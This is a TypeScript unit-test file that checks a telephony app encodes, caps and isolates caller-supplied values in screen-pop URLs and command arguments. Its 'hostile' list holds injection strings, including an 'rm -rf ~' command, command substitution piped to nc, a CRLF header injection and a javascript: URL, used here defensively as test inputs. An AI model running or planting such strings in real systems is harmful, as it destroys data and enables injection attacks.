import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { TemplateField } from '../../common/models/integrations';
import { ScreenPopSchema } from '../../common/models/integrations';
import { commandArgs, fillTemplate, MAX_VALUE_CHARS, screenPopUrl } from './template';

const values = (name: string, number = '+4930123'): Record<TemplateField, string> => ({
  number,
  name,
  callId: 'c-1',
  event: 'incoming',
  accountId: 'alice@example.com',
  direction: 'incoming',
  remoteUri: `sip:${number}@example.com`,
});

const hostile = [
  '"; rm -rf ~ #',
  '$(touch /tmp/dialtone-pwned) `id` | nc evil 1 & echo >x <y',
  '@evil.example/#?x=1&y=2',
  '{callId}{name}',
  'Zoë 🦊 中文 עברית \u202e',
  'a\r\nLocation: https://evil.example/',
  'x'.repeat(100_000),
];

test('screen-pop values are percent-encoded and stay in the query of the configured host', () => {
  for (const name of hostile) {
    const url = screenPopUrl('https://crm.example.com/pop?name={name}&n={number}', values(name));
    assert.ok(url.ok, name.slice(0, 20));
    const parsed = new URL(url.data);
    assert.equal(parsed.origin, 'https://crm.example.com');
    assert.equal(parsed.pathname, '/pop');
    assert.equal(parsed.searchParams.get('name'), name.slice(0, MAX_VALUE_CHARS));
    assert.equal(parsed.searchParams.get('n'), '+4930123');
    assert.equal(parsed.hash, '');
  }
});

test('a value in the host position cannot move the URL to another scheme or host', () => {
  const url = screenPopUrl('https://{number}.crm.example.com/', values('x', 'evil.example/@'));
  // Encoded, the value makes an invalid host, which is refused rather than opened.
  assert.equal(url.ok, false);
  const js = screenPopUrl('https://crm.example.com/{name}', values('javascript:alert(1)'));
  assert.ok(js.ok && new URL(js.data).protocol === 'https:');
});

test('templates are filled in one pass: placeholders inside values are not expanded', () => {
  assert.equal(fillTemplate('{name}-{callId}', values('{callId}')), '{callId}-c-1');
  assert.equal(fillTemplate('{unknown}', values('x')), '{unknown}');
});

test('command arguments carry raw values, one argv entry each, control characters removed and length capped', () => {
  const args = commandArgs(['--name={name}', '{number}', 'fixed'], values('a\r\nb;c $(d)'));
  assert.deepEqual(args, ['--name=ab;c $(d)', '+4930123', 'fixed']);
  assert.equal(commandArgs(['{name}'], values('y'.repeat(5000)))[0]?.length, MAX_VALUE_CHARS);
});

test('screen-pop settings refuse non-http templates and unknown placeholders', () => {
  assert.equal(ScreenPopSchema.safeParse({ id: 'p', urlTemplate: 'javascript:alert({name})' }).success, false);
  assert.equal(ScreenPopSchema.safeParse({ id: 'p', urlTemplate: 'file:///{name}' }).success, false);
  assert.equal(ScreenPopSchema.safeParse({ id: 'p', urlTemplate: 'https://crm/x?q={secret}' }).success, false);
  assert.equal(ScreenPopSchema.safeParse({ id: 'p', urlTemplate: 'https://crm.example.com/x?q={number}' }).success, true);
});
